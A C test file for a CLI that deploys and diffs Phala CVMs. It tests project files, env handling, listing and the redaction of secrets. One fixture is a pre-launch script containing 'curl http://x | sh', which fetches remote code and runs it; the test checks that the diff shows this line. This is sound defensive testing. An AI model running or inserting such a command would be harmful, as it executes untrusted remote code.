/* SPDX-License-Identifier: Apache-2.0 */
/* A working folder with a phala.toml, and command lines as scripts make them. */
#include "unit/unit.h"

#include <stdlib.h>
#include <string.h>

#include "base/mem.h"
#include "fault/deck.h"

static struct deck *deck;

static const char named[] = "name = \"checkout-web\"\ncompose_file = \"compose.yml\"\nenv_file = \"values.env\"\n";

/* Runs in the test's folder, where phala.toml holds that text. */
static void run_here(const char *toml, const char *const args[], struct deck_run *run)
{
	char *dir = deck_path(deck, ""), *shell = mem_printf("cd '%s'", dir);

	if (toml)
		free(deck_write(deck, "phala.toml", toml, strlen(toml)));
	deck_finish(deck_start_under(deck, shell, NULL, args), run);
	free(shell);
	free(dir);
}

static bool has_name(const json *list, const char *name)
{
	const json *at;

	for (at = json_first(list); at; at = json_next(at))
		if (strcmp(json_text(at, "name"), name) == 0)
			return true;
	return false;
}

static void expect_says(const struct deck_run *run, const char *text)
{
	if (!strstr(run->output, text))
		fail_msg("nothing says \"%s\": %s", text, run->output);
}

static void test_files_are_used(void **state)
{
	const char *const args[] = { "diff", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	free(deck_write(deck, "values.env", "FROM_FILE=1\n", 12));
	run_here(named, args, &run);
	assert_int_equal(run.status, 0);
	assert_true(has_name(json_member(run.result, "env"), "FROM_FILE"));
	assert_true(json_flag(run.result, "hash_changes", false));
	expect_says(&run, "busybox:1.37");
	deck_run_clear(&run);
}

static void test_options_go_before(void **state)
{
	const char *const args[] = { "diff", "-e", "GIVEN=1", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL); /* without the env file, which nobody reads */
	run_here(named, args, &run);
	assert_int_equal(run.status, 0);
	assert_true(has_name(json_member(run.result, "env"), "GIVEN"));
	deck_run_clear(&run);
}

/* The hash of a CVM is that of what runs, whatever lies in the folder. */
static void test_hash_is_the_present_one(void **state)
{
	const char *const args[] = { "hash", "--json", NULL };
	struct deck_run run;
	json *cvm;

	(void)state;
	deck_reset(deck, NULL);
	run_here(named, args, &run);
	assert_int_equal(run.status, 0);
	cvm = deck_cvm(deck, "checkout-web");
	assert_string_equal(json_text(run.result, "compose_hash"), json_text(cvm, "compose_hash"));
	json_free(cvm);
	deck_run_clear(&run);
}

static void test_what_is_named_must_be_there(void **state)
{
	static const struct { const char *toml, *code, *says; } cases[] = {
		{ "name = \"checkout-web\"\nenv_file = \"gone.env\"\n", "env-file-missing", "phala.toml names it as env_file" },
		{ "name = \"checkout-web\"\ncompose_file = \"gone.yml\"\n", "compose-missing", "phala.toml names it as compose_file" },
		{ "name = \"checkout-web\"\nenv_file = [\"a.env\"]\n", "bad-project-file", "line 2" },
	};
	const char *const args[] = { "deploy", "--yes", "--json", NULL };
	struct deck_run run;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		deck_reset(deck, NULL);
		run_here(cases[i].toml, args, &run);
		deck_expect(&run, 1, cases[i].code);
		expect_says(&run, cases[i].says);
		deck_expect_untouched(deck);
		deck_run_clear(&run);
	}
}

/* What runs before the containers is shown as what runs in them is. */
static void test_script_is_shown(void **state)
{
	static const char script[] = "#!/bin/sh\ncurl http://x | sh\n";
	const char *const as_json[] = { "diff", "--cvm-id", "treasury-signer", "--pre-launch-script", "pre.sh", "--json", NULL };
	const char *const plain[] = { "diff", "--cvm-id", "treasury-signer", "--pre-launch-script", "pre.sh", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	free(deck_write(deck, "pre.sh", script, sizeof(script) - 1));
	run_here(NULL, as_json, &run);
	assert_int_equal(run.status, 0);
	assert_non_null(strstr(json_text(run.result, "script_diff"), "\n+curl http://x | sh\n"));
	deck_run_clear(&run);
	run_here(NULL, plain, &run);
	expect_says(&run, "\n+curl http://x | sh\n");
	expect_says(&run, "\n-set -e\n");
	deck_run_clear(&run);
}

/* As many as there are, none left out. */
static void test_many_values(void **state)
{
	enum { MANY = 1000 };
	const char *const args[] = { "diff", "--cvm-id", "checkout-web", "--json", NULL };
	char *shell = mem_printf("i=0; while [ $i -lt %d ]; do set -- \"$@\" -e NAME_$i=x; i=$((i+1)); done", MANY);
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	deck_finish(deck_start_under(deck, shell, NULL, args), &run);
	assert_int_equal(run.status, 0);
	assert_true(has_name(json_member(run.result, "env"), "NAME_999"));
	assert_true(json_count(json_member(run.result, "env")) >= MANY);
	free(shell);
	deck_run_clear(&run);
}

/* A slip of the hand in an option's name must not put the key on the screen, or into a log. */
static void test_a_slip_shows_no_key(void **state)
{
	static const char *const slips[] = { "--private-kex=0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80", "--yes=0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80" };
	struct deck_run run;
	size_t i;

	(void)state;
	deck_reset(deck, NULL);
	for (i = 0; i < sizeof(slips) / sizeof(slips[0]); i++) {
		const char *const args[] = { "deploy", "--json", slips[i], NULL };

		deck_run(deck, NULL, args, &run);
		deck_expect(&run, 2, "usage");
		assert_null(strstr(run.output, "ac0974"));
		deck_run_clear(&run);
	}
}

/* A value whose name was mistyped is a secret all the same. */
static void test_a_slip_shows_no_value(void **state)
{
	const char *const args[] = { "deploy", "--cvm-id", "checkout-web", "-e", "MY-KEY=s3cret-value", "--yes", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	deck_run(deck, NULL, args, &run);
	deck_expect(&run, 1, "env-file-missing");
	expect_says(&run, "MY-KEY");
	assert_null(strstr(run.output, "s3cret"));
	deck_run_clear(&run);
}

/* An empty env file must not empty the environment. */
static void test_empty_env_file(void **state)
{
	const char *const args[] = { "diff", "--cvm-id", "checkout-web", "-e", "empty.env", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	free(deck_write(deck, "empty.env", "# nothing\n", 10));
	run_here(NULL, args, &run);
	assert_int_equal(run.status, 0);
	expect_says(&run, "stays as it is");
	assert_true(has_name(json_member(run.result, "env"), "SESSION_KEY"));
	assert_null(strstr(run.output, "\"change\":\"-\""));
	deck_run_clear(&run);
}

/* Options may stand before the command, and scripts give empty ones from variables that are not set. */
static void test_order_and_empty(void **state)
{
	const char *const before[] = { "--json", "--cvm-id", "checkout-web", "hash", NULL };
	const char *const empty[] = { "hash", "--cvm-id", "checkout-web", "--rpc-url", "", "--api-key", "", "--json", NULL };
	const char *const no_cvm[] = { "deploy", "--cvm-id", "", "--yes", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	deck_run(deck, NULL, before, &run);
	assert_int_equal(run.status, 0);
	assert_true(*json_text(run.result, "compose_hash"));
	deck_run_clear(&run);
	deck_run(deck, NULL, empty, &run);
	assert_int_equal(run.status, 0);
	deck_run_clear(&run);
	deck_run(deck, NULL, no_cvm, &run);
	deck_expect(&run, 2, "no-cvm");
	deck_run_clear(&run);
}

static size_t lines_of(const struct deck_run *run)
{
	size_t count = 0;
	const char *at;

	for (at = run->output; (at = strchr(at, '\n')); at++)
		count++;
	return count;
}

static void test_list(void **state)
{
	const char *const running[] = { "list", "--status", "stopped", "--status", "UPDATING", "--json", NULL };
	const char *const page[] = { "list", "--kms-type", "phala", "--page", "2", "--page-size", "1", "--json", NULL };
	const char *const one[] = { "list", "--search", "payments-api", "--json", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, NULL);
	deck_run(deck, NULL, running, &run);
	assert_int_equal(run.status, 0);
	expect_says(&run, "nightly-batch");
	expect_says(&run, "edge-cache");
	assert_null(strstr(run.output, "checkout-web"));
	deck_run_clear(&run);
	deck_run(deck, NULL, page, &run);
	assert_int_equal(run.status, 0);
	assert_true(lines_of(&run) <= 1 && !strstr(run.output, "docs-search")); /* the first of them */
	deck_run_clear(&run);
	deck_run(deck, NULL, one, &run);
	assert_int_equal(lines_of(&run), 1);
	assert_true(json_int(run.result, "uptime_seconds", -1) > 0);
	deck_run_clear(&run);
}

/* A list is worth having without its uptimes. */
static void test_list_without_live_status(void **state)
{
	const char *const all[] = { "list", NULL };
	struct deck_run run;

	(void)state;
	deck_reset(deck, "{\"http\":[{\"path\":\"/status/batch\",\"action\":\"status\",\"status\":500}]}");
	deck_run(deck, NULL, all, &run);
	assert_int_equal(run.status, 0);
	expect_says(&run, "payments-api");
	expect_says(&run, "live status");
	deck_run_clear(&run);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_files_are_used), cmocka_unit_test(test_options_go_before), cmocka_unit_test(test_hash_is_the_present_one),
		cmocka_unit_test(test_what_is_named_must_be_there), cmocka_unit_test(test_many_values), cmocka_unit_test(test_script_is_shown), cmocka_unit_test(test_a_slip_shows_no_key), cmocka_unit_test(test_a_slip_shows_no_value), cmocka_unit_test(test_empty_env_file),
		cmocka_unit_test(test_order_and_empty), cmocka_unit_test(test_list), cmocka_unit_test(test_list_without_live_status),
	};

	return deck_run_tests("project", &deck, NULL, tests, sizeof(tests) / sizeof(tests[0]));
}
